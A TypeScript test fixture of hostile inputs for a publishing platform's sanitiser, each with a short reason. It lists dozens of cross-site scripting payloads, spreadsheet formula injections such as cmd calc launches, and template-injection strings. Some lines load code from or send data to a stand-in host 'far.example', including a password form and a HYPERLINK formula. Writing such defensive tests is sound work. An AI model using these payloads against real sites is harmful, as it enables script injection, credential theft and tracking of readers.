/**
 * What somebody may write or paste to make a reader's browser run something, fetch something or show something false;
 * each with its reason. `MARK` is a call that the test hears of; `FAR` is a host that nobody may be made to ask.
 */
import type { ItemViewData } from '#capabilities/publishing/contract-shapes.ts';

type FactName = keyof ItemViewData['facts'];

export type Attack = {
  readonly why: string;
  /** Where it is written: the body, or one of the facts. */
  readonly in: 'body' | FactName;
  readonly value: string;
};

export const MARK = 'alert(1)';
export const FAR = 'far.example';

const body = (why: string, value: string): Attack => ({ why, in: 'body', value });
const fact = (name: FactName, why: string, value: string): Attack => ({ why, in: name, value });

/** In the body, as typed by hand into a call or pasted from a page. */
export const bodies: readonly Attack[] = [
  body('a script, as it is', `<script>${MARK}</script>`),
  body('a script in capitals with a blank', `<SCRIPT >${MARK}</SCRIPT >`),
  body(
    'a script torn apart, whole again once the inner one is taken out',
    `<scr<script>ipt>${MARK}</scr</script>ipt>`,
  ),
  body('a script from elsewhere', `<script src="https://${FAR}/x.js"></script>`),
  body('a script after a zero byte in the name', `<scr\0ipt>${MARK}</scr\0ipt>`),
  body('a picture that cannot be fetched', `<img src="x" onerror="${MARK}">`),
  body('an event without quotes and with a slash for a blank', `<img/src=x/onerror=${MARK}>`),
  body('an event behind a quote that closes early', `<img alt="a"onerror="${MARK}" src="x">`),
  body('a backtick as a quote', `<img src=\`x\` onerror=\`${MARK}\`>`),
  body(
    'an event of a paragraph',
    `<p onmouseover="${MARK}" onfocus="${MARK}" tabindex="0" autofocus>文字</p>`,
  ),
  body(
    'an event of an animation that begins by itself',
    `<p style="animation:x 1s" onanimationstart="${MARK}">文字</p>`,
  ),
  body(
    'details that open by themselves',
    `<details open ontoggle="${MARK}"><summary>文字</summary></details>`,
  ),
  body('a field that takes the focus', `<input autofocus onfocus="${MARK}">`),
  body('a moving line', `<marquee onstart="${MARK}">文字</marquee>`),
  body('a sound that cannot be fetched', `<audio src="x" onerror="${MARK}"></audio>`),
  body('a video whose source fails', `<video><source onerror="${MARK}" src="x"></video>`),
  body('an SVG with a script', `<svg><script>${MARK}</script></svg>`),
  body('an SVG that runs when it is loaded', `<svg onload="${MARK}"></svg>`),
  body(
    'an SVG whose link is animated into a script',
    `<svg><a><animate attributeName="href" values="javascript:${MARK}"/><text y="20">点</text></a></svg>`,
  ),
  body(
    'an SVG that takes in another document',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${MARK}</script></svg>#x"/></svg>`,
  ),
  body(
    'MathML that confuses what is text and what is not',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${MARK}&gt;">`,
  ),
  body(
    'text that becomes an element when it is read again',
    `<noscript><p title="</noscript><img src=x onerror=${MARK}>"></noscript>`,
  ),
  body(
    'an element inside what is only text',
    `<textarea><img src=x onerror=${MARK}></textarea><title><img src=x onerror=${MARK}></title>`,
  ),
  body('a style that ends early', `<style><img src="</style><img src=x onerror=${MARK}>"></style>`),
  body('a comment that ends early', `<!--><img src=x onerror=${MARK}>-->`),
  body('a comment that ends oddly', `<!-- --!><img src=x onerror=${MARK}> -->`),
  body('a conditional comment of Office', `<!--[if gte mso 9]><script>${MARK}</script><![endif]-->`),
  body('a CDATA section', `<![CDATA[<img src=x onerror=${MARK}>]]>`),
  body(
    'a processing instruction',
    `<?xml version="1.0"?><?xml-stylesheet href="https://${FAR}/x.xsl"?><p>文字</p>`,
  ),
  body('a frame with a script for an address', `<iframe src="javascript:${MARK}"></iframe>`),
  body(
    'a frame with its document in an attribute',
    `<iframe srcdoc="<script>parent.${MARK}</script>"></iframe>`,
  ),
  body(
    'an object',
    `<object data="data:text/html,<script>${MARK}</script>"></object><embed src="https://${FAR}/x.swf">`,
  ),
  body(
    'a form that sends what is typed elsewhere',
    `<form action="https://${FAR}/"><input name="password" type="password"><button>登录</button></form>`,
  ),
  body(
    'a button that turns the page into a form of its own',
    `<button formaction="javascript:${MARK}">登录</button>`,
  ),
  body('another base for every address', `<base href="https://${FAR}/">`),
  body('a page that leads on by itself', `<meta http-equiv="refresh" content="0;url=https://${FAR}/">`),
  body('a style sheet from elsewhere', `<link rel="stylesheet" href="https://${FAR}/x.css">`),
  body(
    'a style that fetches',
    `<style>@import url(https://${FAR}/x.css);body{background:url(https://${FAR}/x)}</style>`,
  ),
  body('a style in an attribute that fetches', `<p style="background:url(https://${FAR}/x.png)">文字</p>`),
  body(
    'a style in an attribute that runs in old browsers',
    `<p style="width:expression(${MARK});behavior:url(#default#time2)">文字</p>`,
  ),
  body(
    'a layer over the whole page that looks like it',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">本网站已关闭</div>',
  ),
  body(
    'a picture from elsewhere tells who reads',
    `<img src="https://${FAR}/track.gif" alt="图" width="1" height="1">`,
  ),
  body('a picture from elsewhere without a scheme', `<img src="//${FAR}/track.gif" alt="图">`),
  body('a picture that is a page', `<img src="data:text/html,<script>${MARK}</script>" alt="图">`),
  body('a link that runs', `<p><a href="javascript:${MARK}">点这里</a></p>`),
  body(
    'a link that runs, with blanks and breaks in the scheme',
    `<p><a href=" java\tscr\nipt:${MARK}">点这里</a></p>`,
  ),
  body(
    'a link that runs, written in entities',
    `<p><a href="&#106;&#x61;vascript&colon;${MARK}">点这里</a></p>`,
  ),
  body('a link that runs, of the other language', `<p><a href="vbscript:${MARK}">点这里</a></p>`),
  body(
    'a link to a page in an address',
    `<p><a href="data:text/html,<script>${MARK}</script>">点这里</a></p>`,
  ),
  body('a link to a file of the reader', '<p><a href="file:///C:/Windows/System32/calc.exe">点这里</a></p>'),
  body(
    'a link into another window that can turn this one',
    `<p><a href="https://${FAR}/" target="_blank" rel="opener">点这里</a></p>`,
  ),
  body(
    'an identifier that shadows what scripts ask for',
    '<form id="body"></form><img id="getElementById" name="cookie" alt="图"><a id="defaultView" href="/x">文字</a>',
  ),
  body(
    'a template that waits for a script',
    `<template shadowrootmode="open"><img src=x onerror=${MARK}></template>`,
  ),
  body('an element of somebody’s own', `<x-harm onclick="${MARK}" style="display:block">文字</x-harm>`),
  body('a thousand elements in one another', `${'<div>'.repeat(3000)}<img src=x onerror=${MARK}>文字`),
  body(
    'a table that throws its content out',
    `<table><tr><td>甲</td></tr><script>${MARK}</script><img src=x onerror=${MARK}></table>`,
  ),
  body(
    'a mark of our own for a paragraph, broken out of',
    `<p data-block="&quot;><img src=x onerror=${MARK}>">文字</p>`,
  ),
  body('writing that turns the direction of what follows', '<p>附件.\u202Egpj.exe</p>'),
];

const breaking = `"'></title></script><script>${MARK}</script><img src=x onerror=${MARK}>`;

/** In the facts, which stand in titles, attributes, meta tags, feeds, sitemaps, JSON and CSV. */
export const facts: readonly Attack[] = [
  fact('title', 'out of the title, of an attribute and of a script', breaking),
  fact('title', 'out of CDATA in a feed', ']]></title><script>alert(1)</script>'),
  fact('title', 'an entity written by hand', '&lt;script&gt;alert(1)&lt;/script&gt;'),
  fact('title', 'a formula in a table', '=HYPERLINK("https://far.example/?"&A1,"点这里")'),
  fact('title', 'a formula that starts a program', "@SUM(1+1)*cmd|' /C calc'!A0"),
  fact('title', 'a line of its own in a CSV file', '标题"\r\n=1+1,"'),
  fact(
    'title',
    'a template that some program might fill in',
    `{{constructor.constructor("alert(1)")()}}$\{alert(1)}`,
  ),
  fact('title', 'a sign that ends a line of a script', '标题\u2028\u2029</script>'),
  fact('subtitle', 'out of the subtitle', breaking),
  fact('summary', 'out of a meta tag', `" http-equiv="refresh" content="0;url=https://${FAR}/`),
  fact('summary', 'out of the description of a feed', ']]><img src=x onerror=alert(1)>'),
  fact('summary', 'a formula in the catalogue', "+1+cmd|' /C calc'!A0"),
  fact('source', 'out of the line below the title', breaking.slice(0, 90)),
  fact('author', 'out of the line below the title, shorter', '<img src=x onerror=alert(1)>'),
  fact('documentNumber', 'out of a table of facts', '凤教〔2024〕1号<img src=x onerror=alert(1)>'),
  fact('keywords', 'out of the keywords', '"><img src=x onerror=alert(1)>'),
];

/** Names and descriptions of sections, which stand in the navigation of every page. */
export const sectionTexts: readonly {
  readonly why: string;
  readonly title: string;
  readonly description: string;
}[] = [
  { why: 'out of a link of the navigation', title: '<img src=x onerror=alert(1)>', description: breaking },
  {
    why: 'out of a meta tag of the column',
    title: '"><script>alert(1)</script>',
    description: `"><meta http-equiv="refresh" content="0;url=https://${FAR}/">`,
  },
];
